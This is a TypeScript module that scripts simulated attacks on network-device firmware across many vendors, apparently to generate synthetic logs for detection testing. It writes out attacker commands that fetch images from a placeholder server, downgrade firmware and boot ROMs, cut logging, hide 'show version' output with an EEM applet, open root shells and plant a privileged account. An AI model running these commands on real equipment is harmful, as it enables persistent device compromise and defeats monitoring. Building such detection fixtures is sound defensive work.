// What attackers do to a device's image or boot firmware, step by step: one row per attack and family of devices. The
// same deeds are told through each channel of that family.

import {
  aristaAccounting,
  asaCommands,
  asaSays,
  asaSessions,
  bsdSays,
  type Channel,
  comwareCommands,
  comwareSays,
  configLog,
  type Deed,
  eventManager,
  f5Audit,
  fortiSays,
  huaweiCommands,
  huaweiSays,
  iosSays,
  ise,
  junosCommands,
  localAccounting,
  nxosAccounting,
  nxosSays,
  panosAudit,
  type Scene,
  tacacs,
  xrSays,
} from "./channels.ts";

/** Minutes after the story began, and a deed, or a message of the device whatever the channel. */
export type Step = readonly [atMinutes: number, told: Deed | ((scene: Scene) => string)];

export interface Attack {
  readonly name: string;
  readonly channels: readonly Channel[];
  readonly steps: readonly Step[];
}

const exec = (line: string): Deed => ({ mode: "exec", line });
const config = (line: string): Deed => ({ mode: "config", line });
const ios = (text: string) => (scene: Scene) => iosSays(text, scene);
const asa = (text: string) => (scene: Scene) => asaSays(text, scene);

const server = "203.0.113.80";
const iosChannels = [configLog, tacacs, ise, localAccounting, eventManager];

const iosLogin = (scene: Scene): string =>
  iosSays(
    `%SEC_LOGIN-5-LOGIN_SUCCESS: Login Success [user: ${scene.actor}] [Source: ${scene.source}] [localport: 22]`,
    scene,
  );
const iosReload = (scene: Scene): string =>
  iosSays(
    `%SYS-5-RELOAD: Reload requested by ${scene.actor} on vty0 (${scene.source}). Reload Reason: Reload Command.`,
    scene,
  );
const iosRestart = (version: string) =>
  ios(
    `%SYS-5-RESTART: System restarted --\nCisco IOS Software, C2900 Software (C2900-UNIVERSALK9-M), Version ${version}, RELEASE SOFTWARE (fc2)`,
  );
const panSystem =
  (event: string, text: string) =>
  (scene: Scene): string => {
    const at = new Date(scene.atMs)
      .toISOString()
      .slice(0, 19)
      .replaceAll("-", "/")
      .replace("T", " ");
    const fields = `1,${at},010101000042,SYSTEM,${event},2561,${at},,${event},,0,0,general,informational,"${text}",700001,0x0,0,0,0,0,,${scene.device}`;
    return bsdSays(fields, scene);
  };

export const attacks: readonly Attack[] = [
  {
    name: "an older image comes by TFTP and is booted (IOS)",
    channels: iosChannels,
    steps: [
      [-1440, iosRestart("15.7(3)M8")],
      [0, iosLogin],
      [2, exec(`copy tftp://${server}/c2900-universalk9-mz.SPA.154-3.M3.bin flash0:c2900.bin`)],
      [9, config("no boot system")],
      [10, config(`boot system tftp c2900-universalk9-mz.SPA.154-3.M3.bin ${server}`)],
      [11, config("config-register 0x2142")],
      [14, iosReload],
      [21, iosRestart("15.4(3)M3")],
    ],
  },
  {
    name: "the ROM monitor is replaced (IOS)",
    channels: [tacacs, ise, localAccounting, eventManager],
    steps: [
      [0, iosLogin],
      [1, exec(`copy tftp://${server}/C2900_RM.bin flash0:rm.bin`)],
      [4, exec("upgrade rom-monitor file flash0:rm.bin")],
      [
        6,
        ios(
          "%IOSXEBOOT-4-BOOTLOADER_UPGRADE: (local/local): ### Thu Mar 12 02:17:00 UTC 2026 PLEASE DO NOT POWER CYCLE ### BOOT LOADER UPGRADING",
        ),
      ],
      [9, iosReload],
      [16, iosRestart("15.7(3)M8")],
    ],
  },
  {
    name: "show output is filtered and logging cut before an image is booted (IOS-XE)",
    channels: [configLog, tacacs, localAccounting],
    steps: [
      [0, iosLogin],
      [2, config("no logging host 198.51.100.40")],
      [3, config("event manager applet hide")],
      [3.2, config('event cli pattern "show version" sync yes skip yes')],
      [6, config(`boot system http://${server}/cat9k_iosxe.16.09.04.SSA.bin`)],
      [9, iosReload],
      [17, iosRestart("16.9.4")],
    ],
  },
  {
    name: "an older image is booted and connections are no longer logged (ASA)",
    channels: [asaCommands, asaSessions],
    steps: [
      [0, exec("no logging message 302013")],
      [
        2,
        exec(`copy /noconfirm tftp://${server}/asa9-12-4-smp-k8.bin disk0:/asa9-12-4-smp-k8.bin`),
      ],
      [9, exec("no boot system")],
      [9.2, exec(`boot system tftp://${server}/asa9-12-4-smp-k8.bin`)],
      [12, exec("reload noconfirm")],
      [12.1, asa("%ASA-5-199001: Reload command executed from SSH (remote 203.0.113.77).")],
      [18, asa("%ASA-6-199002: Startup completed.  Beginning operation.")],
    ],
  },
  {
    name: "a shell is entered and an unsigned image set to boot (NX-OS)",
    channels: [nxosAccounting],
    steps: [
      [0, config("configure terminal ; feature bash-shell")],
      [1, exec("run bash sudo su")],
      [4, exec(`copy tftp://${server}/nxos.9.3.10.SSA.bin bootflash: vrf management`)],
      [9, config("configure terminal ; boot nxos bootflash:nxos.9.3.10.SSA.bin")],
      [11, exec("reload")],
      [
        11.2,
        (scene) =>
          nxosSays(
            "%PLATFORM-2-PFM_SYSTEM_RESET: Manual system restart from Command Line Interface",
            scene,
          ),
      ],
    ],
  },
  {
    name: "an unvalidated package is added from a shell (Junos)",
    channels: [junosCommands],
    steps: [
      [1, exec("start shell user root")],
      [
        4,
        exec(
          `request system software add http://${server}/jinstall-ppc-15.1F6-S10.12.tgz no-validate unlink`,
        ),
      ],
      [16, exec("request system reboot")],
      [
        16.3,
        (scene) => bsdSays("mgd[22688]: UI_REBOOT_EVENT: System rebooted by 'contr02'", scene),
      ],
    ],
  },
  {
    name: "an image is installed and boots from the network (EOS)",
    channels: [aristaAccounting],
    steps: [
      [0, config("no logging host 198.51.100.40")],
      [1, exec(`copy tftp://${server}/EOS-4.20.1F.swi flash:`)],
      [4, config(`boot system http://${server}/EOS-4.20.1F.swi`)],
      [7, exec("bash sudo su")],
      [8, exec("reload now")],
    ],
  },
  {
    name: "an image comes by TFTP and the boot ROM is upgraded (VRP)",
    channels: [huaweiCommands],
    steps: [
      [0, config("undo info-center enable")],
      [1, exec(`tftp ${server} get s5720-v200r005c00.cc`)],
      [6, exec("startup system-software s5720-v200r005c00.cc")],
      [7, exec("upgrade rom s5720.bin")],
      [8, exec("reboot fast")],
      [12, (scene) => huaweiSays("SHELL/5/LOGIN(l)[130]:VTY login from 203.0.113.77.", scene)],
    ],
  },
  {
    name: "an image and boot ROM are replaced (Comware)",
    channels: [comwareCommands],
    steps: [
      [0, config("undo info-center enable")],
      [1, exec(`tftp ${server} get s5130-cmw710-r3109p05.ipe`)],
      [5, exec("bootrom update file flash:/s5130.btm slot 1")],
      [6, exec("boot-loader file flash:/s5130-cmw710-r3109p05.ipe slot 1 main")],
      [8, exec("reboot force")],
      [12, (scene) => comwareSays("SHELL/5/SHELL_LOGIN: contr02 logged in from vty0.", scene)],
    ],
  },
  {
    name: "firmware is restored from an administrator's file (FortiOS)",
    channels: [{ name: "event log", tell: () => undefined }],
    steps: [
      [
        0,
        (scene) =>
          fortiSays(
            'logid="0100032202" type="event" subtype="system" level="critical" vd="root" logdesc="Image restored" user="contr02" ui="GUI(203.0.113.77)" action="restore-image" status="success" msg="User contr02 restored the image from GUI(203.0.113.77) (v7.0.12 -> v7.0.5)"',
            scene,
          ),
      ],
      [
        5,
        (scene) =>
          fortiSays(
            'logid="0100020234" type="event" subtype="system" level="alert" vd="root" logdesc="File hash mismatch" action="alert" msg="Integrity check of an executable failed"',
            scene,
          ),
      ],
    ],
  },
  {
    name: "an older release is installed at night (PAN-OS)",
    channels: [panosAudit],
    steps: [
      [0, exec("delete admin-sessions")],
      [1, exec(`tftp import software from ${server} file PanOS_vm-10.1.6-h3`)],
      [6, exec("request system software install version 10.1.6-h3")],
      [20, exec("request restart system")],
      [28, panSystem("general", "The system is starting up.")],
    ],
  },
  {
    name: "a software volume is replaced from a shell (F5)",
    channels: [f5Audit],
    steps: [
      [0, exec("run util bash")],
      [3, exec("install sys software image BIGIP-13.1.0.iso volume HD1.2 create-volume reboot")],
      [15, exec("reboot volume HD1.2")],
    ],
  },
  {
    name: "a package is activated and the logs are cut (IOS-XR)",
    channels: [tacacs, ise],
    steps: [
      [0, config("no logging 198.51.100.40")],
      [1, exec(`install add source tftp://${server}/ asr9k-mini-px.pie-5.1.1`)],
      [9, exec("install activate asr9k-mini-px-5.1.1 noprompt")],
      [
        10,
        (scene) =>
          xrSays(
            "instdir[254]: %INSTALL-INSTMGR-6-INSTALL_OPERATION_STARTED : Install operation 12 '(admin) install activate disk0:asr9k-mini-px-5.1.1' started by user 'contr02' via CLI at 02:12:00 UTC Thu Mar 12 2026.",
            scene,
          ),
      ],
      [20, exec("reload location all")],
    ],
  },
  {
    name: "an account is planted over the web and the image changed there (IOS-XE)",
    channels: [tacacs, localAccounting],
    steps: [
      [
        0,
        ios(
          "%SYS-5-CONFIG_P: Configured programmatically by process SEP_webui_wsma_http from console as cisco_tac_admin on vty63",
        ),
      ],
      [
        1,
        ios(
          "%SEC_LOGIN-5-WEBLOGIN_SUCCESS: Login Success [user: cisco_tac_admin] [Source: 203.0.113.77] at 02:12:00 UTC Thu Mar 12 2026",
        ),
      ],
      [
        3,
        ios("%WEBUI-6-INSTALL_OPERATION_INFO: User: cisco_tac_admin, Install Operation: ADD file"),
      ],
      [5, exec("username cisco_support privilege 15 secret 0 removed")],
    ],
  },
];
